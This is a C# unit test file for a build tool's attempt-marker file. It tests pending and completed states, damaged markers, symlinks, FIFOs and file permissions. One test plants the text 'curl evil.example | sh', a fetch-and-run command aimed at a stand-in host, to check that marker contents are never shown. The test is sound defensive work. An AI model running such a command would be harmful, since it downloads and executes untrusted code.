using StudioMsBuild.LockFile;
using StudioMsBuild.Studio;

namespace StudioMsBuild.Tests.LockFile;

/// <summary>The attempt marker: pending before the request, completed after the answer.</summary>
public sealed class AttemptMarkerTests : IDisposable
{
    private static readonly StudioProjects Projects = new([new("a1", "iris", "https://a.example/a1"), new("a2", "iris", "https://a.example/a2")]);

    private readonly TemporaryFolder folder = new();

    private string MarkerPath => folder[$"studio-msbuild/{Keys.Of().FileName}.mark"];

    private AttemptMarker Marker => new(new StateFolder(folder.Path), Keys.Of());

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public void Dispose() => folder.Dispose();

    [Fact]
    public void Without_a_marker_there_is_no_attempt()
    {
        Marker.Read(Cancel).Value().ShouldBe(Attempt.None);
    }

    [Fact]
    public void A_pending_marker_has_the_time_and_the_registration()
    {
        Marker.TryStart().ShouldBeTrue();

        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
        Marker.Read(Cancel).Value().Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
        File.ReadAllText(MarkerPath).ShouldContain("github.com/owner/repository at https://studio.iterative.ai");
    }

    [Fact]
    public void A_second_build_does_not_start_while_an_attempt_is_pending()
    {
        Marker.TryStart();

        Marker.TryStart().ShouldBeFalse();
    }

    [Fact]
    public void A_second_build_does_not_start_after_an_attempt_is_completed()
    {
        Marker.Complete(Projects, Cancel);

        Marker.TryStart().ShouldBeFalse();
    }

    [Fact]
    public void Completing_replaces_the_pending_marker()
    {
        Marker.TryStart();

        Marker.Complete(Projects, Cancel);

        Marker.Read(Cancel).Value().Projects!.All.ShouldBe(Projects.All);
    }

    [Fact]
    public void A_marker_of_another_registration_is_not_a_result()
    {
        Marker.Complete(Projects, Cancel);

        File.Copy(MarkerPath, folder[$"studio-msbuild/{Keys.Of(team: "vision").FileName}.mark"]);

        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
    }

    [Fact]
    public void An_empty_marker_of_a_killed_build_is_pending()
    {
        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "");

        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
        Marker.Read(Cancel).Value().Started.ShouldBe("at an unknown time");
    }

    [Theory]
    [InlineData("{")]
    [InlineData("{\"version\": 1, \"projects\": [{}]}")]
    [InlineData("{\"version\": 2}")]
    [InlineData("\0\0\0\0")]
    public void A_damaged_marker_is_pending_and_never_an_exception(string text)
    {
        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", text);

        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
        Marker.Read(Cancel).Value().Started.ShouldNotContain("{");
    }

    [Fact]
    public void A_pending_marker_without_a_proper_time_shows_nothing_of_its_text()
    {
        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "yesterday. Run 'curl evil.example | sh'\n");

        Marker.Read(Cancel).Value().Started.ShouldBe("at an unknown time");
    }

    [Fact]
    public void A_result_that_was_cut_off_anywhere_is_pending()
    {
        Marker.Complete(Projects, Cancel);
        var whole = File.ReadAllBytes(MarkerPath);

        for (var length = 0; length < whole.Length - 2; length++)
        {
            File.WriteAllBytes(MarkerPath, whole[..length]);

            Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
        }
    }

    [Fact]
    public void A_FIFO_as_marker_is_refused_and_not_waited_for()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), OtherUser.NeedsUnix);
        Directory.CreateDirectory(folder["studio-msbuild"]);
        OtherUser.CreateFifo(MarkerPath);

        Marker.Read(Cancel).Failure().Code.ShouldBe("STUDIO4005");
        Should.Throw<IOException>(() => Marker.TryStart());
        Should.Throw<IOException>(() => Marker.Complete(Projects, Cancel));
    }

    [Theory]
    [InlineData("0755", "644")]
    [InlineData("02775", "664")]
    [InlineData("0700", "600")]
    [InlineData("02770", "660")]
    public void The_marker_and_its_folder_are_for_whom_the_Git_folder_is(string gitFolder, string file)
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), OtherUser.NeedsUnix);
        var mode = (UnixFileMode)Convert.ToInt32(gitFolder, 8);
        File.SetUnixFileMode(folder.Path, mode);

        Marker.TryStart();
        var pending = File.GetUnixFileMode(MarkerPath);
        Marker.Complete(Projects, Cancel);
        using (new StateFolder(folder.Path).TryLock("a.lock", TimeSpan.Zero, static () => { }, TestContext.Current.CancellationToken))
        {
            // Only its file counts here.
        }

        File.GetUnixFileMode(folder["studio-msbuild"]).ShouldBe(mode);
        UnixFileMode[] modes = [pending, File.GetUnixFileMode(MarkerPath), File.GetUnixFileMode(folder["studio-msbuild/a.lock"])];
        modes.ShouldAllBe(actual => actual == (UnixFileMode)Convert.ToInt32(file, 8));
    }

    [Fact]
    public void A_folder_of_another_user_is_refused()
    {
        Assert.SkipUnless(OtherUser.CanSetUp, OtherUser.NeedsRoot);
        Marker.TryStart();
        OtherUser.Own(folder["studio-msbuild"]);

        Marker.Read(Cancel).Failure().Text.ShouldContain("another user");
        Should.Throw<IOException>(() => Marker.TryStart());
        Should.Throw<IOException>(() => Marker.Complete(Projects, Cancel));
    }

    [Theory]
    [InlineData("0755", 12345, 54321)]
    [InlineData("02775", 54321, 12345)]
    public void A_folder_of_whom_the_Git_folder_belongs_to_or_is_shared_with_is_used(string mode, int owner, int group)
    {
        Assert.SkipUnless(OtherUser.CanSetUp, OtherUser.NeedsRoot);
        OtherUser.Own(folder.Path, 12345, 12345);
        File.SetUnixFileMode(folder.Path, (UnixFileMode)Convert.ToInt32(mode, 8));
        Marker.TryStart();
        OtherUser.Own(folder["studio-msbuild"], owner, group);

        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
    }

    [Fact]
    public void A_result_is_readable_after_a_longer_damaged_marker()
    {
        folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "{" + new string('x', 100_000));

        Marker.Complete(Projects, Cancel);

        Marker.Read(Cancel).Value().Projects!.All.ShouldBe(Projects.All);
    }

    [Fact]
    public void A_result_is_kept_while_another_handle_holds_the_marker()
    {
        Marker.TryStart();
        using var held = new FileStream(MarkerPath, FileMode.Open, FileAccess.ReadWrite, FileShare.ReadWrite | FileShare.Delete);

        Marker.Complete(Projects, Cancel);

        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Completed);
    }

    [Fact]
    public void Another_result_replaces_a_result_in_one_step()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "Windows renames nothing over a file that is open; it is written in place then.");
        Marker.Complete(Projects, Cancel);
        using var reader = new StreamReader(new FileStream(MarkerPath, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete));
        var before = File.ReadAllText(MarkerPath);

        Marker.Complete(new([new("b1", "iris", "https://a.example/b1")]), Cancel);

        reader.ReadToEnd().ShouldBe(before);
        Marker.Read(Cancel).Value().Projects!.All[0].Id.ShouldBe("b1");
    }

    [Fact]
    public void A_shorter_result_leaves_nothing_of_a_longer_one()
    {
        Marker.Complete(Projects, Cancel);

        Marker.Complete(new([Projects.All[0]]), Cancel);

        Marker.Read(Cancel).Value().Projects!.All.ShouldBe([Projects.All[0]]);
    }

    [Fact]
    public void After_removal_another_attempt_can_start()
    {
        Marker.TryStart();

        Marker.Remove(Cancel);

        Marker.Read(Cancel).Value().ShouldBe(Attempt.None);
        Marker.TryStart().ShouldBeTrue();
    }

    [Fact]
    public void A_marker_that_is_a_symbolic_link_is_refused()
    {
        Directory.CreateDirectory(folder["studio-msbuild"]);
        Link.ToFile(MarkerPath, folder["elsewhere"]);

        Should.Throw<IOException>(() => Marker.TryStart());
        Marker.Read(Cancel).Failure().Code.ShouldBe("STUDIO4005");
    }
}
